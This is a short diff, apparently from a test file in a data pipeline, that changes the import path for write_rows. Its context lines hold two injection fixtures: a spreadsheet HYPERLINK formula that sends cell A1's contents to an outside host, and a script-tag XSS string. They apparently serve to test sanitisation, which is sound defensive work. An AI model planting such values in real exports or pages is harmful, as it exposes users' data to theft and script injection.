@@ -21,7 +21,7 @@ from pipeline.schema.dataset import (
     PersonRole,
     Place,
 )
-from pipeline.storage import write_rows
+from pipeline.storage.tables import write_rows
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
 SCRIPT = "Volt said <script>alert(1)</script> so."
